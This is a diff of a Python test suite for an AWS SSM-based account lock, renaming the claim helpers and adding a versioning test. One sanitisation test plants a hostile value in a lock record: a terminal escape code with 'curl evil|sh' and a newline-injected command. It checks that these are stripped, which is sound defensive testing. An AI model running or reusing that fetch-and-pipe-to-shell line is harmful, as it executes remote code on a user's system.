@@ -1,4 +1,4 @@
-"""A claim that machines see: renewed while its holder works, given up when somebody took over, held by one at most."""
+"""The lock of the account: renewed while its run works, given up when another run took over, held by one at most."""
 
 from __future__ import annotations
 
@@ -16,8 +16,11 @@ import pytest
 
 from tests.unit.fakes.virtual_time import START, VirtualClock
 from workshop.app.locking import claim_left, locked
-from workshop.aws.claim import claimed, clear_lapsed, holder_of, parameter_name
 from workshop.aws.errors import AwsError
+from workshop.aws.lock.account_lock import AccountLock
+from workshop.aws.lock.claim_log import ClaimLog
+from workshop.aws.lock.claim_record import new_record
+from workshop.aws.lock.claims import clear_lapsed, parameter_name, read_claim
 from workshop.engine.scope import Scope
 from workshop.errors import WorkshopError
 
@@ -49,7 +52,7 @@ class Parameters:
         return self.logs[HOME, NAME][-1]
 
     @property
-    def stands(self) -> bool:
+    def exists(self) -> bool:
         return any(self.logs.values())
 
     def count(self, operation: str) -> int:
@@ -57,8 +60,16 @@ class Parameters:
 
     def write(self, region: str = HOME, **more: object) -> None:
         """What another machine claims."""
-        holder = {"token": "other", "machine": "other", "host": "far", "user": "ana", "pid": 1, "command": "teardown",
-                  "since": "2026-03-01T09:00:00+00:00", "until": "2999-01-01T00:00:00+00:00"}  # fmt: skip
+        holder = {
+            "token": "other",
+            "machine": "other",
+            "host": "far",
+            "user": "ana",
+            "pid": 1,
+            "command": "teardown",
+            "since": "2026-03-01T09:00:00+00:00",
+            "until": "2999-01-01T00:00:00+00:00",
+        }
         self.store(self.logs[region, NAME], json.dumps({**holder, **more}))
 
     def store(self, log: list[str], text: str) -> None:
@@ -126,14 +137,14 @@ class SleepyClock(VirtualClock):
         return super().now() + timedelta(seconds=self.slept)
 
 
-def claim(aws, notices: list[str], command: str = "setup", clock=None):
-    return claimed(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
+def account_lock(aws, notices: list[str], command: str = "setup", clock=None) -> AccountLock:
+    return AccountLock(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)
 
 
 async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=None) -> str:
-    """Hold the claim for a while; answers how it ended. `at_work` lists who holds it."""
+    """Hold the lock for a while; returns how that ended. `at_work` lists who holds it."""
     try:
-        async with claim(aws, [], command, clock) as held:
+        async with account_lock(aws, [], command, clock) as held:
             at_work.append(command)
             assert len(at_work) == 1, f"{at_work} are at work together"
             await asyncio.sleep(seconds)
@@ -145,52 +156,52 @@ async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=N
 
 async def test_a_claim_is_renewed_while_its_holder_works_and_removed_at_the_end():
     aws, notices = Parameters(), []
-    async with claim(aws, notices):
+    async with account_lock(aws, notices):
         first = json.loads(aws.value)["until"]
         await asyncio.sleep(700)
         assert json.loads(aws.value)["until"] > first
-        assert await holder_of(aws, HOME, "films", clock=VirtualClock()) is not None
-    assert not aws.stands and notices == []
+        assert await read_claim(aws, HOME, "films", clock=VirtualClock()) is not None
+    assert not aws.exists and notices == []
 
 
-async def test_a_second_holder_is_told_who_is_at_work():
+async def test_a_second_run_reads_which_run_is_at_work():
     aws = Parameters()
     aws.write(command="setup")
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, [], "teardown"):
+        async with account_lock(aws, [], "teardown"):
             pytest.fail("both are at work")
     assert caught.value.code == "Busy" and "far" in caught.value.why and "setup" in caught.value.why
 
 
-async def test_a_holder_whose_claim_was_taken_over_says_so_and_leaves_it_to_the_other():
-    aws, notices, told = Parameters(), [], []
-    async with claim(aws, notices) as held:
-        held.listen(told.append)
+async def test_a_run_whose_lock_was_taken_over_reports_it_and_leaves_it_to_the_other():
+    aws, notices, reported = Parameters(), [], []
+    async with account_lock(aws, notices) as held:
+        held.listen(reported.append)
         aws.write()
         writes = aws.count("put_parameter")
         await asyncio.sleep(400)
         assert aws.count("put_parameter") == writes
-        held.listen(told.append)
-    assert [error.code for error in told] == ["TakenOver", "TakenOver"] and told[0] is held.lost
+        held.listen(reported.append)
+    assert [error.code for error in reported] == ["TakenOver", "TakenOver"] and reported[0] is held.lost
     assert len(notices) == 1 and "@far took films over with workshop teardown, so this run stops" in notices[0]
     assert json.loads(aws.value)["token"] == "other"
 
 
 async def test_a_holder_that_slept_while_another_took_over_and_ended_stops_and_claims_nothing():
     aws, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         writes = aws.count("put_parameter")
         aws.logs[HOME, NAME].clear()
         await asyncio.sleep(400)
         assert held.lost is not None and held.lost.code == "TakenOver"
         assert "has ended since" in held.lost.what
-        assert not aws.stands and aws.count("put_parameter") == writes
-    assert not aws.stands and len(notices) == 1
+        assert not aws.exists and aws.count("put_parameter") == writes
+    assert not aws.exists and len(notices) == 1
 
 
 async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
     aws, clock = Parameters(), SleepyClock()
-    async with claim(aws, [], clock=clock) as held:
+    async with account_lock(aws, [], clock=clock) as held:
         await asyncio.sleep(20)
         aws.write()
         clock.slept = 900
@@ -198,64 +209,64 @@ async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
         assert held.lost is not None
 
 
-async def test_a_claim_that_nobody_wanted_while_its_machine_slept_is_renewed_at_once():
+async def test_a_claim_that_no_other_run_took_while_its_machine_slept_is_renewed_at_once():
     aws, clock, notices = Parameters(), SleepyClock(), []
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         clock.slept = 900
         await asyncio.sleep(10)
-        holder = await holder_of(aws, HOME, "films", clock=clock)
+        holder = await read_claim(aws, HOME, "films", clock=clock)
         assert held.lost is None and holder is not None and not holder.lapsed(clock.now())
-    assert notices == [] and not aws.stands
+    assert notices == [] and not aws.exists
 
 
-async def test_a_renewal_that_fails_is_said_once_and_tried_again_until_it_succeeds():
+async def test_a_renewal_that_fails_is_reported_once_and_tried_again_until_it_succeeds():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         aws.denied.add((HOME, "get_parameter"))
         await asyncio.sleep(300)
         aws.denied.clear()
         await asyncio.sleep(10)
-        holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
+        holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
         assert holder is not None and holder.until > "2026-03-01T09:14"
     assert held.lost is None and len(notices) == 1 and "could not be renewed" in notices[0]
 
 
-async def test_only_a_claim_that_nobody_holds_any_more_is_cleared():
+async def test_only_a_claim_that_lapsed_is_cleared():
     aws, clock = Parameters(), VirtualClock()
     assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
     aws.write()
     holder = await clear_lapsed(aws, HOME, "films", clock=clock)
-    assert holder is not None and holder.host == "far" and aws.stands
+    assert holder is not None and holder.host == "far" and aws.exists
     aws.write(until=LAPSED)
     assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
-    assert not aws.stands
+    assert not aws.exists
 
 
-async def test_a_claim_that_somebody_takes_over_while_it_is_cleared_is_left_alone():
+async def test_a_claim_that_another_run_takes_over_while_it_is_cleared_is_left_alone():
     aws = Parameters()
     aws.write(until=LAPSED)
     clearing = asyncio.create_task(clear_lapsed(Slow(aws, put_parameter=[50]), HOME, "films", clock=VirtualClock()))
     await asyncio.sleep(10)
-    async with claim(aws, [], "setup") as held:
+    async with account_lock(aws, [], "setup") as held:
         holder = await clearing
         assert holder is not None and holder.command == "setup"
         await asyncio.sleep(400)
         assert held.lost is None
-    assert not aws.stands
+    assert not aws.exists
 
 
-async def test_a_claim_that_lapsed_is_taken_over_with_a_word():
+async def test_a_claim_that_lapsed_is_taken_over_with_a_notice():
     aws, notices = Parameters(), []
     aws.write(until=LAPSED)
-    async with claim(aws, notices, "teardown"):
+    async with account_lock(aws, notices, "teardown"):
         assert json.loads(aws.value)["command"] == "teardown"
     assert any("Taking over from" in text for text in notices)
-    assert not aws.stands
+    assert not aws.exists
 
 
 @pytest.mark.parametrize("until", ["2999-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"])
 @pytest.mark.parametrize("wrong", [0, -5 * 3600, 5 * 3600], ids=["right", "slow", "fast"])
-async def test_a_claim_counts_ten_minutes_after_its_write_whatever_it_says_and_however_wrong_our_clock_is(
+async def test_a_claim_counts_ten_minutes_after_its_write_whatever_end_it_names_and_however_wrong_our_clock_is(
     until: str, wrong: float
 ):
     aws, clock, notices = Parameters(), SleepyClock(), []
@@ -264,12 +275,12 @@ async def test_a_claim_counts_ten_minutes_after_its_write_whatever_it_says_and_h
     await asyncio.sleep(595)
     assert await attempt(aws, "setup", 1, [], clock) == "Busy"
     await asyncio.sleep(10)
-    async with claim(aws, notices, clock=clock) as held:
+    async with account_lock(aws, notices, clock=clock) as held:
         assert held.lost is None and any("Taking over from ana@far" in text for text in notices)
-    assert not aws.stands
+    assert not aws.exists
 
 
-async def test_writes_that_do_not_count_keep_nobody_out_for_longer_than_ten_minutes():
+async def test_writes_that_do_not_count_keep_no_run_out_for_longer_than_ten_minutes():
     aws = Parameters()
     for number in range(120):
         aws.write(after=1000, token=f"{number}")
@@ -282,7 +293,7 @@ async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
     aws = Parameters()
     aws.write()
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, []):
+        async with account_lock(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.why and HOME in caught.value.why
     command = caught.value.fix.partition("aws ")[1] + caught.value.fix.partition("aws ")[2]
@@ -292,7 +303,7 @@ async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
 async def test_names_in_a_claim_are_cut_and_make_no_sentence_and_no_escape_code():
     aws = Parameters()
     aws.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
-    holder = await holder_of(aws, HOME, "films", clock=VirtualClock())
+    holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
     assert holder is not None
     assert not set("\x1b; |:\n`") & set(holder.user + holder.host) and not set("\x1b;|:\n`") & set(holder.command)
     assert max(map(len, (holder.user, holder.host, holder.command))) <= 64
@@ -312,7 +323,7 @@ JUNK = {
 async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_removes_it(junk):
     aws = Parameters()
     aws.store(aws.logs[HOME, NAME], junk) if isinstance(junk, str) else aws.write(**junk)
-    for work in (claim(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
+    for work in (account_lock(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
         with pytest.raises(WorkshopError) as caught:
             await work
         assert (
@@ -321,14 +332,30 @@ async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_re
     assert aws.count("put_parameter") == 1 and aws.count("delete_parameter") == 0
 
 
+async def test_a_write_counts_only_directly_after_the_one_that_it_was_written_over():
+    clock = VirtualClock()
+    log = ClaimLog(Parameters(), HOME, "films", clock)
+    ana, bob, eve = (new_record(name, clock) for name in ("ana", "bob", "eve"))
+    created = await log.create(ana)
+    renewal = await log.overwrite(created, ana)
+    assert renewal is not None
+    takeover = await log.overwrite(renewal, bob)
+    assert await log.overwrite(renewal, eve) is None
+    late = await log.read()
+    assert late is not None and (late.version, late.record.command) == (4, "eve")
+    assert takeover is not None and await log.last_counting(late) == await log.read(takeover.version)
+    after = await log.overwrite(late, bob)
+    assert after is not None and after.version == 5 and await log.last_counting(after) == after
+
+
 async def test_a_takeover_removes_nothing():
     aws = Parameters(rest=30)
     aws.write(until=LAPSED)
-    async with claim(aws, []):
+    async with account_lock(aws, []):
         assert aws.count("delete_parameter") == 0
 
 
-async def test_whoever_takes_over_later_gives_way_and_the_first_works_on():
+async def test_the_run_that_takes_over_later_gives_way_and_the_first_works_on():
     aws, at_work = Parameters(), []
     aws.write(until=LAPSED)
     late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
@@ -337,7 +364,7 @@ async def test_whoever_takes_over_later_gives_way_and_the_first_works_on():
     assert await late == "Busy"
     assert at_work == ["teardown"]
     assert await first == "held"
-    assert not aws.stands
+    assert not aws.exists
 
 
 @pytest.mark.parametrize(("versions", "most"), [(True, 20.0), (False, 0.4)])
@@ -348,21 +375,21 @@ async def test_of_many_that_take_over_together_exactly_one_works(versions: bool,
     clients = [Slow(aws, chance, most) for _ in range(4)]
     ended = await asyncio.gather(*(attempt(each, f"setup {n}", 1000, at_work) for n, each in enumerate(clients)))
     assert sorted(ended) == ["Busy", "Busy", "Busy", "held"]
-    assert not aws.stands
+    assert not aws.exists
 
 
 async def test_a_renewal_that_arrives_after_another_ended_ends_the_run_and_leaves_nothing():
     aws, at_work = Parameters(), []
     slow = Slow(aws, put_parameter=[0, 1000])
     notices: list[str] = []
-    async with claim(slow, notices) as held:
+    async with account_lock(slow, notices) as held:
         await asyncio.sleep(700)
         aws.write()
         assert await attempt(aws, "teardown", 1, at_work) == "Busy"
         aws.logs[HOME, NAME].clear()
         await asyncio.sleep(700)
         assert held.lost is not None
-    assert not aws.stands
+    assert not aws.exists
 
 
 async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
@@ -371,29 +398,29 @@ async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
     late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
     await asyncio.sleep(10)
     aws.logs[HOME, NAME].clear()
-    async with claim(aws, [], "teardown") as held:
+    async with account_lock(aws, [], "teardown") as held:
         assert await late == "Busy" and at_work == []
         await asyncio.sleep(400)
         assert held.lost is None
-    assert not aws.stands
+    assert not aws.exists
 
 
 @pytest.mark.parametrize("refused", ["ParameterAlreadyExists", "TooManyUpdates"])
-async def test_a_name_that_was_deleted_moments_ago_is_waited_for_with_a_word(refused: str):
+async def test_a_name_that_was_deleted_moments_ago_is_waited_for_with_a_notice(refused: str):
     aws, notices = Parameters(rest=30, refused=refused), []
-    async with claim(aws, notices):
+    async with account_lock(aws, notices):
         pass
-    async with claim(aws, notices, "teardown"):
+    async with account_lock(aws, notices, "teardown"):
         assert json.loads(aws.value)["command"] == "teardown"
     assert len(notices) == 1 and "Waiting for SSM to let go of the name" in notices[0]
 
 
-async def test_a_name_that_never_becomes_free_is_an_error_that_blames_nobody():
+async def test_a_name_that_never_becomes_free_is_an_error_that_blames_no_other_run():
     aws = Parameters(rest=1e6)
-    async with claim(aws, []):
+    async with account_lock(aws, []):
         pass
     with pytest.raises(WorkshopError) as caught:
-        async with claim(aws, []):
+        async with account_lock(aws, []):
             pytest.fail("it holds nothing")
     assert NAME in caught.value.what and "let go of the name" in caught.value.what
     assert "again and again" not in str(caught.value) and "same command again" in caught.value.fix
@@ -401,7 +428,7 @@ async def test_a_name_that_never_becomes_free_is_an_error_that_blames_nobody():
 
 async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         aws.denied.add((HOME, "delete_parameter"))
         assert await held.release() is False
         assert await held.release() is False
@@ -412,17 +439,17 @@ async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
 
 async def test_a_claim_that_was_given_up_before_the_end_is_not_renewed_or_missed():
     aws, notices = Parameters(), []
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         assert await held.release() is True
         await asyncio.sleep(400)
-        assert not aws.stands and held.lost is None
+        assert not aws.exists and held.lost is None
     assert notices == []
 
 
 async def test_a_run_that_may_not_claim_goes_on_and_has_nothing_to_give_up():
     aws, notices = Parameters(), []
     aws.denied.add((HOME, "put_parameter"))
-    async with claim(aws, notices) as held:
+    async with account_lock(aws, notices) as held:
         assert await held.release() is True
     assert len(notices) == 1 and "Not guarded" in notices[0] and "ssm:PutParameter" in notices[0]
 
@@ -438,7 +465,7 @@ def machine(folder, aws, *regions: str, notices: list[str] | None = None):
     return SimpleNamespace(workspace=workspace, account=aws.account, folder=folder, scope=scope), notice
 
 
-async def test_somebody_at_work_with_another_home_is_respected(tmp_path):
+async def test_a_run_that_is_at_work_with_another_home_is_respected(tmp_path):
     aws = Parameters()
     aws.write(AWAY)
     opened, notice = machine(tmp_path, aws, HOME, AWAY)
@@ -449,7 +476,7 @@ async def test_somebody_at_work_with_another_home_is_respected(tmp_path):
     assert aws.count("put_parameter") == 0
 
 
-async def test_a_claim_elsewhere_that_lapsed_or_may_not_be_read_keeps_nobody_from_work(tmp_path):
+async def test_a_claim_elsewhere_that_lapsed_or_may_not_be_read_keeps_no_run_from_work(tmp_path):
     aws, notices = Parameters(), []
     aws.write(AWAY, until=LAPSED)
     aws.write("eu-central-1")
@@ -477,7 +504,7 @@ async def test_two_with_swapped_homes_that_start_together_never_both_work(tmp_pa
 
     ended = await asyncio.gather(run("setup", HOME, AWAY), run("teardown", AWAY, HOME))
     assert "gave way" in ended
-    assert not aws.stands
+    assert not aws.exists
 
 
 async def test_what_could_not_be_removed_of_the_claim_is_a_leftover_with_its_command(tmp_path):
